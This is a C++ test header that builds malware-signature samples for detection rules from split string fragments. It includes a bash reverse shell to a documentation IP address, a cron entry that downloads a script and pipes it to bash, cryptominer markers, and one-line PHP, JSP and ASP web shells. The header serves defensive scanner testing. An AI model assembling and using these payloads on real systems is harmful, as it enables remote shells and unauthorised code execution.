// SPDX-License-Identifier: Apache-2.0
// Samples that malware rules must find, put together from parts so that no file holds one whole.
#pragma once

#include <map>
#include <string>

namespace test {

inline std::string eicar() {
  return std::string("X5O!P%@AP[4\\PZX54(P^)7CC)7}") + "$EICAR-STANDARD-ANTIVIRUS" + "-TEST-FILE!$H+H*";
}

inline const std::map<std::string, std::string>& malware_samples() {
  static const std::string elf = std::string("\x7f") + "ELF\x02\x01\x01";
  static const std::string pool = std::string("stratum") + "+tcp://";
  static const std::map<std::string, std::string> samples{
      {"eicar_test_file", eicar()},
      {"cryptominer_program", elf + pool + " XM" + "Rig donate" + "-level rig-" + "id"},
      {"cryptominer_configuration", std::string("{\"pools\": [{\"url\": \"p:3333\", \"algo\": \"rx/0\"}], \"donate") + "-level\": 1}"},
      {"cryptominer_start_line", "#!/bin/sh\n./run -o " + pool + "pool.example.org:3333 -u wallet -p x\n"},
      {"reverse_shell_script", std::string("#!/bin/bash\nbash -i >& /dev") + "/tcp/192.0.2.1/4444 0>&1\n"},
      {"process_hider_library", elf + " process_to" + "_filter readdir64 /proc/self"},
      {"scheduled_download_and_run", std::string("*/5 * * * * root curl -s http://192.0.2.1/x ") + "| bash\n"},
      {"webshell_php", std::string("<?php @ev") + "al($_PO" + "ST['c']); ?>"},
      {"webshell_jsp", std::string("<% Runtime.getRun") + "time().exec(request.getPara" + "meter(\"c\")); %>"},
      {"webshell_asp", std::string("<% ev") + "al(Req" + "uest.Item[\"c\"]); %>"},
  };
  return samples;
}

}  // namespace test
